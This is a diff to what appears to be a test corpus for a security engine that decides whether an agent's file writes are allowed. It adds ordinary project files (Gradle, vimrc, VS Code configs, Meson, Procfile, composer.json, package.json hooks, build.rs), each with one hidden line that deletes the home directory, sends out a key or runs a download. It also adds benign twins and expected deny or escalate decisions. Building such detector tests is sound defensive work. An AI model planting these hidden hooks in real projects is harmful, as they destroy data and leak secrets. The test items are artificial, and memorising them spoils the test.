@@ -598,6 +598,47 @@ A("destructive", B("bun -e " + sq("import {$} from 'bun'; await $`%s`" % RM)), B
   "Bun's $ imported", "git status")
 
 
+# ---- wave 3: ordinary project files, each with one hostile line added ----------------------------
+GRADLE = ("plugins {\n    id 'java'\n    id 'application'\n}\nrepositories { mavenCentral() }\n"
+          "dependencies {\n    testImplementation 'org.junit.jupiter:junit-jupiter:5.10.0'\n}\n"
+          "application { mainClass = 'app.App' }\ntasks.named('test') { useJUnitPlatform() }\n"
+          "task cleanGen(type: Delete) { delete 'src/gen', \"$buildDir/tmp\" }\n")
+A("destructive", W("build.gradle", GRADLE + "task wipe(type: Delete) { delete \"${System.getProperty('user.home')}\" }\n"),
+  W("build.gradle", GRADLE), "a Delete of the home directory in an interpolated string", "an ordinary build.gradle ($buildDir is the build directory)")
+VIMRC = ("set nocompatible\nsyntax on\nset number\nnnoremap <leader>t :!pytest %<CR>\n"
+         "autocmd BufWritePost *.py silent !black %\n\" a comment\n")
+A("destructive", W(".vimrc", VIMRC + "autocmd VimEnter * call system('%s')\n" % EXFIL), W(".vimrc", VIMRC),
+  "an autocmd calling system()", "an ordinary vimrc with mappings to run tests")
+LAUNCH = ("{\n  \"version\": \"0.2.0\",\n  \"configurations\": [\n"
+          "    {\"name\": \"Python\", \"type\": \"debugpy\", \"request\": \"launch\", \"program\": \"${file}\"},\n"
+          "    {\"name\": \"Jest\", \"type\": \"node\", \"request\": \"launch\", \"program\": \"${workspaceFolder}/node_modules/.bin/jest\","
+          " \"args\": [\"--runInBand\"], \"runtimeArgs\": [\"--inspect-brk\"]}%s\n  ]\n}\n")
+A("destructive", W(".vscode/launch.json", LAUNCH % (",\n    {\"name\": \"setup\", \"type\": \"node\", \"request\": \"launch\", \"runtimeExecutable\": \"bash\","
+                                                    " \"runtimeArgs\": [\"-c\", \"%s\"]}" % CURL)),
+  W(".vscode/launch.json", LAUNCH % ""), "a third configuration running a download", "ordinary launch configurations")
+TASKS = ("{\n  \"version\": \"2.0.0\",\n  \"tasks\": [\n    {\"label\": \"build\", \"type\": \"shell\", \"command\": \"npm run build\"},\n"
+         "    {\"label\": \"clean\", \"type\": \"shell\", \"command\": \"rm -rf dist\"}%s\n  ]\n}\n")
+A("destructive", W(".vscode/tasks.json", TASKS % (",\n    {\"label\": \"reset\", \"type\": \"shell\", \"command\": \"%s\"}" % RM)),
+  W(".vscode/tasks.json", TASKS % ""), "a task that deletes the home directory", "build and clean tasks")
+MESON = ("project('app', 'c')\nsrc = files('main.c')\nexecutable('app', src, install: true)\n"
+         "custom_target('gen', output: 'gen.h', command: [find_program('python3'), files('gen.py'), '@OUTPUT@'])\n")
+A("destructive", W("meson.build", MESON + "run_command('sh', '-c', '%s', check: false)\n" % EXFIL), W("meson.build", MESON),
+  "a run_command sending a key", "an ordinary meson.build")
+PROC = "web: gunicorn app.wsgi --log-file -\nworker: celery -A app worker -l info\nrelease: python manage.py migrate --noinput\n"
+A("destructive", W("Procfile", PROC + "clock: %s\n" % CURL), W("Procfile", PROC), "a process running a download", "an ordinary Procfile")
+COMPOSER = ("{\n  \"name\": \"acme/app\",\n  \"scripts\": {\n    \"post-autoload-dump\": [\"Illuminate\\\\Foundation\\\\ComposerScripts::postAutoloadDump\","
+            " \"@php artisan package:discover --ansi\"%s]\n  }\n}\n")
+A("destructive", W("composer.json", COMPOSER % (", \"%s\"" % RM)), W("composer.json", COMPOSER % ""),
+  "a third post-autoload-dump command", "Laravel's scripts")
+PKG = ("{\n  \"name\": \"x\",\n  \"scripts\": {\"test\": \"jest\"},\n  \"husky\": {\"hooks\": {\"pre-commit\": \"lint-staged\", \"pre-push\": \"%s\"}},\n"
+       "  \"lint-staged\": {\"*.{js,ts}\": [\"eslint --fix\", \"prettier --write\"]}\n}\n")
+A("destructive", W("package.json", PKG % EXFIL), W("package.json", PKG % "npm test"), "a pre-push hook sending a key", "npm test before a push")
+BUILDRS = ("use std::process::Command;\nuse std::env;\nfn main() {\n    let out = env::var(\"OUT_DIR\").unwrap();\n"
+           "    let mut c = Command::new(\"%s\");\n    c.arg(\"%s\").arg(&out);\n    c.status().unwrap();\n}\n")
+A("destructive", W("build.rs", (BUILDRS % ("sh", "-c")).replace("c.arg(\"-c\").arg(&out);", "c.arg(\"-c\");\n    c.arg(\"%s\");" % RM)),
+  W("build.rs", BUILDRS % ("protoc", "--rust_out")), "a bound command given a shell script", "protoc into OUT_DIR")
+
+
 def rows(kept):
     out = []
     for i, (cls, attack, twin, why, twin_why) in enumerate(ATTEMPTS):
@@ -611,8 +652,9 @@ def rows(kept):
     return out
 
 
-# The attempts the engine allowed when the round began and decides now (attempt: the
-# decision); the others were stopped already, or are left open (docs/analyzers.md).
+# The attempts the engine allowed when the round began (commit 492c123) and decides now
+# (attempt: the decision); the others were stopped already, are controls, or are left
+# open (docs/analyzers.md, "Known gaps").
 KEPT = {0: "deny", 1: "deny", 2: "deny", 3: "deny", 4: "deny", 5: "deny", 6: "deny", 7: "deny",
         8: "deny", 9: "deny", 10: "deny", 11: "deny", 12: "deny", 13: "deny", 14: "deny",
         15: "deny", 16: "deny", 17: "deny", 18: "deny", 19: "deny", 20: "deny", 21: "deny",
@@ -630,10 +672,14 @@ KEPT = {0: "deny", 1: "deny", 2: "deny", 3: "deny", 4: "deny", 5: "deny", 6: "de
         184: "deny", 185: "deny", 186: "deny", 187: "deny", 188: "deny", 189: "deny", 190: "deny",
         191: "deny", 192: "deny", 193: "deny", 194: "deny", 195: "deny", 196: "deny", 197: "deny",
         198: "deny", 200: "deny", 201: "deny", 209: "deny", 210: "deny", 211: "deny", 212: "deny",
-        213: "deny", 215: "deny", 216: "deny", 219: "deny", 220: "deny", 222: "deny", 225: "deny",
-        227: "deny", 230: "deny", 231: "deny", 232: "deny", 236: "deny", 239: "deny", 240: "deny",
-        241: "deny", 242: "deny", 244: "deny", 247: "deny", 248: "deny", 251: "deny",
-        261: "escalate", 270: "deny"}
+        213: "deny", 215: "deny", 216: "deny", 219: "deny", 220: "deny", 221: "deny", 222: "deny",
+        223: "deny", 224: "deny", 225: "deny", 227: "deny", 229: "deny", 230: "deny", 231: "deny",
+        232: "deny", 233: "deny", 234: "deny", 236: "deny", 237: "deny", 238: "deny", 239: "deny",
+        240: "deny", 241: "deny", 242: "deny", 243: "deny", 244: "deny", 245: "deny", 246: "deny",
+        247: "deny", 248: "deny", 249: "escalate", 250: "escalate", 251: "deny", 254: "deny",
+        255: "deny", 256: "deny", 257: "deny", 261: "escalate", 262: "escalate", 266: "escalate",
+        267: "deny", 268: "deny", 269: "deny", 270: "deny", 271: "escalate", 272: "deny",
+        273: "deny", 274: "deny", 275: "deny", 276: "deny", 277: "deny", 278: "deny", 279: "deny"}
 
 if __name__ == "__main__":
     if len(sys.argv) > 2 and sys.argv[1] == "--attempts":
